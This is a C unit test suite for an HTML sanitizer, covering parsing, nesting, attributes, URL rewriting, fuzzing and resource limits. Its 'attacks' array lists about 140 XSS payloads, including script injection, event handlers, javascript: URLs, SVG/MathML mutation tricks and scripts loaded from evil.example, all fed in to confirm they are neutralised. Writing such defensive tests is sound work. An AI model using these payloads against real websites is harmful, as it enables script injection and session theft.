#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "base/limits.h"
#include "base/mem.h"
#include "base/str.h"
#include "html_check.h"
#include "parse/sanitize.h"

static const struct sanitize_opts with_base = {.base_url = "http://base.example/dir/page"};

static void clean(struct buf *out, const char *in, const struct sanitize_opts *o)
{
    buf_clear(out);
    assert_int_equal(sanitize_html(out, in, strlen(in), o), 0);
    const char *why = html_check(buf_str(out), out->len);
    if (why)
        fail_msg("%s: %s -> %s", why, in, buf_str(out));
}

static void check(const char *in, const char *want, const struct sanitize_opts *o)
{
    CLEANUP_BUF struct buf out = BUF_INIT(1u << 20), again = BUF_INIT(1u << 20);
    clean(&out, in, o);
    if (strcmp(buf_str(&out), want) != 0)
        fail_msg("%s\n got %s\nwant %s", in, buf_str(&out), want);
    clean(&again, buf_str(&out), o);
    assert_string_equal(buf_str(&again), buf_str(&out));
}

struct row {
    const char *in, *want;
};
#define CHECK_ALL(rows, opts)                     \
    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) \
    check(rows[i].in, rows[i].want, opts)

static void elements(void **state)
{
    static const struct row rows[] = {
        {"", ""},
        {"text", "text"},
        {"  text \n", "text"},
        {"<p>a</p>", "<p>a</p>"},
        {"<P CLASS=x>a</P>", "<p class=\"x\">a</p>"},
        {"a<br>b<br/>c</br>d", "a<br/>b<br/>c<br/>d"},
        {"<hr><img src=a>", "<hr/><img src=\"a\"/>"},
        {"<blink>a</blink>", "a"},
        {"<html><head><title>T</title></head><body>a</body></html>", "a"},
        {"a<script>b</script>c", "ac"},
        {"a<style>b</style>c", "ac"},
        {"a<noscript>b</noscript>c", "ac"},
        {"a<template>b<template>c</template>d</template>e", "ae"},
        {"a<object data=x>b<embed src=y></object>c", "ac"},
        {"a<applet>b</applet>c", "ac"},
        {"a<frameset><frame src=x></frameset>b", "ab"},
        {"a<xml>b</xml>c", "ac"},
        {"a<iframe src=x>b</iframe>c", "abc"},
        {"a<embed src=x>b", "ab"},
        {"a<form action=x><input value=y><button>b</button></form>c", "abc"},
        {"a<!-- b -->c<?php d ?>e<!DOCTYPE f>g", "aceg"},
        {"a<object>b", "ab"},
        {"a<script>b", "a"},
        {"a<textarea><b>&lt;</textarea>b", "a&lt;b&gt;&lt;b"},
        {"<o:p>a</o:p><custom-element>b</custom-element>", "ab"},
        {"<section><article><aside>a</aside></article></section>",
         "<section><article><aside>a</aside></article></section>"},
        {"<ruby>a<rp>(<rt>b<rp>)</ruby>", "<ruby>a<rp>(</rp><rt>b</rt><rp>)</rp></ruby>"},
        {"<details open><summary>a</summary>b</details>",
         "<details open=\"\"><summary>a</summary>b</details>"},
        {"<picture><source srcset=a.webp><img src=a></picture>",
         "<picture><source srcset=\"a.webp\"/><img src=\"a\"/></picture>"},
        {"<video controls src=a><track src=b></video>",
         "<video controls=\"\" src=\"a\"><track src=\"b\"/></video>"},
        {"<svg><circle r=1 /><title>a</title><text>b</text></svg>c", "abc"},
        {"<svg><script/>a</svg>b", "ab"},
        {"<math display=block><mi>x</mi><mo>=</mo><mspace width=1em /><mn>1</mn></math>",
         "<math display=\"block\"><mi>x</mi><mo>=</mo><mspace width=\"1em\"></mspace><mn>1</mn>"
         "</math>"},
        {"<mi>x</mi>", "x"}, /* MathML has a place */
        {"<td>a</td>", "<td>a</td>"},
    };
    CHECK_ALL(rows, NULL);
}

static void nesting(void **state)
{
    static const struct row rows[] = {
        {"<p>a<p>b", "<p>a</p><p>b</p>"},
        {"<p>a<div>b</div>c</p>", "<p>a</p><div>b</div>c"},
        {"<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"},
        {"<ul><li>a<ul><li>b</ul><li>c</ul>", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"},
        {"<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"},
        {"<table><tr><td>a<td>b<tr><td>c</table>",
         "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"},
        {"<table><thead><tr><th>a<tbody><tr><td>b</table>",
         "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>"},
        {"<table><tr><td><table><tr><td>a</td></tr></table></td></tr></table>",
         "<table><tr><td><table><tr><td>a</td></tr></table></td></tr></table>"},
        {"<div><table><tr><td></div>a</td></tr></table></div>",
         "<div><table><tr><td>a</td></tr></table></div>"},
        {"<b>a<i>b</b>c</i>d", "<b>a<i>b</i></b><i>c</i>d"},
        {"if a <b", "if a &lt;b"}, /* a word, not a tag */
        {"if a <b \n", "if a &lt;b"},
        {"<p>if a <b2", "<p>if a &lt;b2</p>"},
        {"a <b href=", "a"}, /* a tag that was cut off */
        {"a <b/", "a"},
        {"a</b", "a"},
        {"a<b<c", "a"},
        {"<a href=x>a<a href=y>b</a>c", "<a href=\"x\">a</a><a href=\"y\">b</a>c"},
        {"<h1>a<h2>b</h1>c", "<h1>a</h1><h2>b</h2>c"},
        {"<span>a<div>b</span>c</div>d", "<span>a<div>bc</div>d</span>"},
        {"a</div></p></b>b", "ab"},
        {"<div><b>a", "<div><b>a</b></div>"},
        {"<ol><li><p>a</li><li>b", "<ol><li><p>a</p></li><li>b</li></ol>"},
        {"<ul><li>a<ol></li>b</ol></ul>", "<ul><li>a<ol>b</ol></li></ul>"},
    };
    CHECK_ALL(rows, NULL);
}

static void attributes(void **state)
{
    static const struct row rows[] = {
        {"<a href='x' title=\"y\" rel=z>", "<a href=\"x\" title=\"y\" rel=\"z\"></a>"},
        {"<p title='\"<>&'>", "<p title=\"&quot;&lt;&gt;&amp;\"></p>"},
        {"<p title=a&amp;b&copy=c>", "<p title=\"a&amp;b&amp;copy=c\"></p>"},
        {"<p title=a title=b>", "<p title=\"a\"></p>"},
        {"<p onclick=x ONLOAD=y onfoo=z>", "<p></p>"},
        {"<p style='color:red' id=a name=b>", "<p></p>"},
        {"<p unknown=1 data-x=2 aria-label=3>", "<p></p>"},
        {"<a target=_blank href=x>", "<a href=\"x\"></a>"},
        {"<p/title=a/class=b>", "<p title=\"a/class=b\"></p>"},
        {"<p title = a>", "<p title=\"a\"></p>"},
        {"<p title=>a", "<p title=\"\">a</p>"},
        {"<p title>a", "<p title=\"\">a</p>"},
        {"<p =a title=b>", "<p title=\"b\"></p>"},
        {"<p title=`a b`>", "<p title=\"`a\"></p>"},
        {"<p title=\"a\"class=\"b\">", "<p title=\"a\" class=\"b\"></p>"},
        {"<p title='a&#0;b&#1;c\x01'>", "<p title=\"a\xef\xbf\xbd"
                                        "bc\"></p>"},
        {"<p title='a", ""},
        {"<audio autoplay src=a>", "<audio src=\"a\"></audio>"},
    };
    CHECK_ALL(rows, NULL);
}

static void urls(void **state)
{
    static const struct row rows[] = {
        {"<a href=x>", "<a href=\"http://base.example/dir/x\"></a>"},
        {"<a href=' /x\ny '>", "<a href=\"http://base.example/xy\"></a>"},
        {"<a href='#f'>", "<a href=\"http://base.example/dir/page#f\"></a>"},
        {"<img src=//h/i>", "<img src=\"http://h/i\"/>"},
        {"<blockquote cite=c><q cite=d>",
         "<blockquote cite=\"http://base.example/dir/c\"><q cite=\"http://base.example/dir/d\">"
         "</q></blockquote>"},
        {"<video poster=p src=s>",
         "<video poster=\"http://base.example/dir/p\" src=\"http://base.example/dir/s\"></video>"},
        {"<img longdesc=l usemap='#m'>", "<img longdesc=\"http://base.example/dir/l\" "
                                         "usemap=\"http://base.example/dir/page#m\"/>"},
        {"<td background=b>", "<td background=\"http://base.example/dir/b\"></td>"},
        {"<img srcset='a.png, b.png 2x,c.png 100w , http://x/d.png'>",
         "<img srcset=\"http://base.example/dir/a.png, http://base.example/dir/b.png 2x, "
         "http://base.example/dir/c.png 100w, http://x/d.png\"/>"},
        {"<img srcset='javascript:a 1x, b 2x'>", "<img srcset=\"http://base.example/dir/b 2x\"/>"},
        {"<img srcset='javascript:a'>", "<img/>"},
        {"<img srcset='data:image/png;base64,AA== 1x, b 2x'>",
         "<img srcset=\"data:image/png;base64,AA== 1x, http://base.example/dir/b 2x\"/>"},
        {"<img src='data:image/png;base64,AAAA'>", "<img src=\"data:image/png;base64,AAAA\"/>"},
        {"<a href='data:image/png;base64,AAAA'>", "<a></a>"},
        {"<img src='data:image/svg+xml,x'>", "<img/>"},
        {"<a href=mailto:a@b>", "<a href=\"mailto:a@b\"></a>"},
        {"<a href=x-unknown:a>", "<a></a>"},
        {"<a href=file:///etc/passwd>", "<a></a>"},
        {"<a href='http://x/?a=1&amp;b=2'>", "<a href=\"http://x/?a=1&amp;b=2\"></a>"},
        {"<a href='http://x/ä b'>", "<a href=\"http://x/ä b\"></a>"},
    };
    CHECK_ALL(rows, &with_base);
}

static void text_is_kept(void **state)
{
    static const struct row rows[] = {
        {"AT&T &amp; &lt;b&gt; &nbsp;&eacute;", "AT&amp;T &amp; &lt;b&gt; \xc2\xa0\xc3\xa9"},
        {"1 < 2 > 0", "1 &lt; 2 &gt; 0"},
        {"I <3 you", "I &lt;3 you"},
        {"&notit; &copy2 &unknown;", "\xc2\xacit; \xc2\xa9"
                                     "2 &amp;unknown;"},
        {"&#150;&#x27;&#0;", "\xe2\x80\x93'\xef\xbf\xbd"},
        {"a\fb\x01"
         "c\x7f",
         "a bc"},
        {"<pre>\n a  b\n</pre>", "<pre>\n a  b\n</pre>"},
        {"a <!-- b --> c", "a  c"},
        {"]]>", "]]&gt;"},
    };
    CHECK_ALL(rows, NULL);
}

static void pixels(void **state)
{
    static const struct row rows[] = {
        {"a<img src=p width=1 height=1>b", "ab"},
        {"a<img height='1px' src=p width=0>b", "ab"},
        {"<img src=p width=1 height=10>", "<img src=\"p\" width=\"1\" height=\"10\"/>"},
        {"<img src=p width=1>", "<img src=\"p\" width=\"1\"/>"},
        {"<img src=p width=11 height=1>", "<img src=\"p\" width=\"11\" height=\"1\"/>"},
        {"<img src=p width=100% height=1>", "<img src=\"p\" width=\"100%\" height=\"1\"/>"},
    };
    CHECK_ALL(rows, NULL);
    check("<img src=p width=1 height=1>", "<img src=\"p\" width=\"1\" height=\"1\"/>",
          &(struct sanitize_opts){.keep_pixels = true});
}

static void wrapping_div(void **state)
{
    static const struct row rows[] = {
        {"<div>a<div>b</div></div>", "a<div>b</div>"},
        {" <div class=x><p>a</p></div> ", "<p>a</p>"},
        {"a<div>b</div>", "a<div>b</div>"},
        {"<p>a</p><div>b</div>", "<p>a</p><div>b</div>"},
        {"<div></div>", ""},
    };
    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        CLEANUP_BUF struct buf out = BUF_INIT(1u << 20);
        clean(&out, rows[i].in, &(struct sanitize_opts){.unwrap_div = true});
        assert_string_equal(buf_str(&out), rows[i].want);
    }
}

static void plain_text_beside(void **state)
{
    CLEANUP_BUF struct buf out = BUF_INIT(1u << 20), text = BUF_INIT(1000);
    struct sanitize_opts o = {.text = &text};
    clean(&out, "<p>a &amp; b</p><p>c<br>d <b>e</b>f<script>x</script>", &o);
    assert_string_equal(buf_str(&text), "a & b c d ef");
}

/* The classes of the OWASP cheat sheets, and the known ways to make a parser and a browser disagree
 * (mutation XSS). What must come out is nothing that runs: html_check() reads the result as a
 * browser would and knows what is allowed. */
static const char *const attacks[] = {
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<script/xss src=//evil.example>",
    "<script\x0c>alert(1)</script>",
    "<script",
    "<script src=//evil.example",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img src=x/onerror=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<img src=\"x\"onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058alert(1)>",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>x</a>",
    "<a href=\" &#14;  javascript:alert(1);\">x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=\"java&Tab;script&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"\xc2\xa0javascript:alert(1)\">x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg'>x</a>",
    "<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<a href=x title='a\" onclick=\"alert(1)'>x</a>",
    "<a href='x\" onclick=\"alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)><param name=x value=y></object>",
    "<object type=text/x-scriptlet data=//evil.example></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv='Set-Cookie' content='a=b'>",
    "<base href='javascript:alert(1)//'><a href=x>y</a>",
    "<base href='//evil.example/'><img src=x>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=//evil.example>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>li{background:url(javascript:alert(1))}</style><ul><li>x</ul>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(//evil.example)'>x</div>",
    "<xss style='behavior:url(x.htc)'>x</xss>",
    "<input type=image src=javascript:alert(1) autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example></layer>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=_ onloadstart=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<video poster=javascript:alert(1)></video>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<a id=x tabindex=1 onfocus=alert(1)></a>",
    "<a href=x ping=//evil.example>x</a>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<img srcset='x\" onerror=\"alert(1)'>",
    "<map name=x><area href=javascript:alert(1)></map>",
    "<image src=x onerror=alert(1)>",
    "<portal src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:text/javascript,alert(1) />",
    "<svg><script xlink:href=//evil.example></script>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1) /></svg>#x' />",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x "
    "onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)"
    "&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<math></br><style><!--</style><img src=x onerror=alert(1)>--></style></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><p title=\"</template><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<!ENTITY xss SYSTEM 'x'><img src=x onerror=alert(1)>",
    "<%<!--'%><script>alert(1);</script -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&LT;script&GT;alert(1)",
    "<a title='&lt;img src=x onerror=alert(1)&gt;'>x</a>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<b <script>alert(1)</script>0",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<xml id=i><x><c><![CDATA[<img src='javas]]><![CDATA[cript:alert(1)'>]]></c></x></xml>",
    "<html xmlns:t='urn:x'><t:set attributeName=innerHTML to='<script>alert(1)</script>'>",
    "<img src=x:x onerror=alert(1) /*",
    "<a href=//evil.example\\@good.example>x</a>",
    "<table><tr><td></table><img src=x onerror=alert(1)></td>",
    "</div></div></body></html><script>alert(1)</script>",
    "<a href='java\xe2\x80\x8bscript:alert(1)'>x</a>",
    "<a href='\xef\xbb\xbfjavascript:alert(1)'>x</a>",
    "<a href=\"javascript\x0a:alert(1)\">x</a>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
};

static void xss(void **state)
{
    for (size_t i = 0; i < ARRAY_SIZE(attacks); i++) {
        CLEANUP_BUF struct buf out = BUF_INIT(1u << 20), again = BUF_INIT(1u << 20);
        clean(&out, attacks[i], &with_base);
        clean(&again, buf_str(&out), &with_base);
        assert_string_equal(buf_str(&again), buf_str(&out));
        clean(&out, attacks[i], NULL); /* nor without a base */
    }
}

/* A cheap generator of its own, so that a failure can be repeated. */
static uint32_t next_random(uint64_t *seed)
{
    *seed = *seed * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)(*seed >> 33);
}

static void random_garbage(void **state)
{
    static const char *const pieces[] = {
        "<",         ">",           "/",          "=",           "\"",
        "'",         " ",           "&",          "a",           "</",
        "<b>",       "</b>",        "<p>",        "</p>",        "<div>",
        "</div>",    "<a href=",    "<img ",      "<i>",         "</i>",
        "<li>",      "<ul>",        "</ul>",      "<td>",        "<tr>",
        "<table>",   "</table>",    "<h1>",       "</h1>",       "<br>",
        "<!--",      "-->",         "<svg>",      "</svg>",      "<math>",
        "<mi>",      "</mi>",       "<style>",    "</style>",    "<script>",
        "</script>", "<title>",     "</title>",   "&lt;",        "&#x3c;",
        "&amp",      "javascript:", "onerror=",   "src=x ",      "srcset='a, b 2x' ",
        "\n",        "\xc3\xa9",    "<textarea>", "</textarea>", "<object>",
        "</object>", "<dd>",        "<dt>",       "<dl>",        "<font color=red>",
        "</font>",   "<template>",  "width=1 ",   "height=1 ",   "<span>",
        "</span>",   "<rt>",        "<ruby>",     "</br>",       "\x01",
    };
    uint64_t seed = 20260101;
    for (int round = 0; round < 20000; round++) {
        CLEANUP_BUF struct buf in = BUF_INIT(10000), out = BUF_INIT(1u << 20),
                               again = BUF_INIT(1u << 20);
        for (uint32_t n = 1 + next_random(&seed) % 30; n > 0; n--)
            buf_adds(&in, pieces[next_random(&seed) % ARRAY_SIZE(pieces)]);
        clean(&out, buf_str(&in), &with_base);
        clean(&again, buf_str(&out), &with_base);
        if (strcmp(buf_str(&out), buf_str(&again)) != 0)
            fail_msg("not a fixed point: %s\n -> %s\n -> %s", in.data, buf_str(&out),
                     buf_str(&again));
    }
}

/* Text is looked at in blocks and words: what is special is seen wherever it stands. */
static void text_in_blocks(void **state)
{
    static const char *const odd[][2] = {
        {"& ", "&amp; "}, {"&lt;", "&lt;"}, {"> ", "&gt; "}, {"< ", "&lt; "}, {"\x01", ""},
        {"\x7f", ""},     {"&#127;", ""},   {"\f", " "},     {"\n", "\n"},    {"&#x3e;", "&gt;"},
        {"<i>", "<i>"},   {"</i>", "</i>"}, {"=", "="},      {"?", "?"},
    };
    for (size_t at = 0; at < 80; at++)
        for (size_t i = 0; i < ARRAY_SIZE(odd); i++) {
            CLEANUP_BUF struct buf in = BUF_INIT(1000), want = BUF_INIT(1000);
            for (size_t k = 0; k < 90; k++) {
                buf_addc(&in, (char)('a' + k % 26));
                buf_addc(&want, (char)('a' + k % 26));
                if (k == at || k == at + 3) {
                    bool other = k != at && i == 10; /* <i> ... </i> */
                    buf_adds(&in, odd[other ? 11 : i][0]);
                    buf_adds(&want, i == 11 ? "" : odd[other ? 11 : i][1]);
                }
            }
            check(in.data, want.data, NULL);
        }
}

static void depth(void **state)
{
    CLEANUP_BUF struct buf in = BUF_INIT(1u << 20), out = BUF_INIT(1u << 20);
    for (int i = 0; i < 3 * LIMIT_DEPTH; i++)
        buf_adds(&in, "<div>");
    buf_adds(&in, "<p>deep</p>");
    for (int i = 0; i < 3 * LIMIT_DEPTH; i++)
        buf_adds(&in, "</div>");
    buf_adds(&in, "<p>after</p>");
    clean(&out, in.data, NULL);
    size_t count = 0;
    for (const char *p = out.data; (p = strstr(p, "<div>")); p++)
        count++;
    assert_int_equal(count, LIMIT_DEPTH);
    assert_non_null(strstr(out.data, "deep</div>"));
    assert_true(str_ends(out.data, "</div><p>after</p>"));
}

static void many_attributes(void **state)
{
    CLEANUP_BUF struct buf in = BUF_INIT(4u << 20), out = BUF_INIT(1u << 20);
    buf_adds(&in, "<p ");
    for (int i = 0; i < 100000; i++)
        buf_addf(&in, "a%d=1 title=%d ", i, i);
    buf_adds(&in, ">x");
    clean(&out, in.data, NULL);
    assert_string_equal(out.data, "<p title=\"0\">x</p>");
}

static void check_full(const char *in, size_t n, size_t max)
{
    CLEANUP_BUF struct buf out = BUF_INIT(max);
    int r = sanitize_html(&out, in, n, NULL);
    assert_true(r == 0 || r == -EFBIG);
    assert_true(out.len <= max);
    assert_int_equal(out.overflow, r != 0);
    assert_true(utf8_valid(buf_str(&out), out.len));
    assert_null(html_check(buf_str(&out), out.len));
}

/* At every size of the buffer: what is there is whole and safe. */
static void full_buffer(void **state)
{
    static const char in[] =
        "<div title=t><p>some text &lt; \xe2\x82\xac<a href='http://x/&amp;'>b</a>"
        "<ul><li>c<li>d</ul></div><p>end";
    for (size_t max = 0; max < 6000; max += max < 4800 ? 600 : 1)
        check_full(in, sizeof in - 1, max);
    CLEANUP_BUF struct buf breaks = BUF_INIT(1u << 20);
    buf_adds(&breaks, "<ul><li><b>");
    while (breaks.len < 20000)
        buf_adds(&breaks, "</br>");
    check_full(breaks.data, breaks.len, 10000);
}

static void linear_time(void **state)
{
    static const char *const pieces[] = {
        "<b ",
        "&",
        "<",
        "<!--",
        "<!",
        "</",
        "&#",
        "<title>",
        "<object>",
        "<b a=\"",
        "<b>",
        "<b><i>",
        "<textarea>",
        "<?",
        "<p>",
        "<li>",
        "<table>",
        "</b>",
        "<a b=c>",
        "<div><b></div>",
        "<svg>",
        "<math><mi>",
        "<img srcset='a,",
        "a, ",
    };
    CLEANUP_BUF struct buf in = BUF_INIT(4u << 20), out = BUF_INIT(64u << 20);
    for (size_t i = 0; i < ARRAY_SIZE(pieces); i++) {
        buf_clear(&in);
        while (in.len < 1u << 20)
            buf_adds(&in, pieces[i]);
        clean(&out, in.data, NULL);
        assert_true(out.len < 8 * in.len);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(elements),
        cmocka_unit_test(nesting),
        cmocka_unit_test(attributes),
        cmocka_unit_test(urls),
        cmocka_unit_test(text_is_kept),
        cmocka_unit_test(pixels),
        cmocka_unit_test(wrapping_div),
        cmocka_unit_test(plain_text_beside),
        cmocka_unit_test(xss),
        cmocka_unit_test(random_garbage),
        cmocka_unit_test(text_in_blocks),
        cmocka_unit_test(depth),
        cmocka_unit_test(many_attributes),
        cmocka_unit_test(full_buffer),
        cmocka_unit_test(linear_time),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
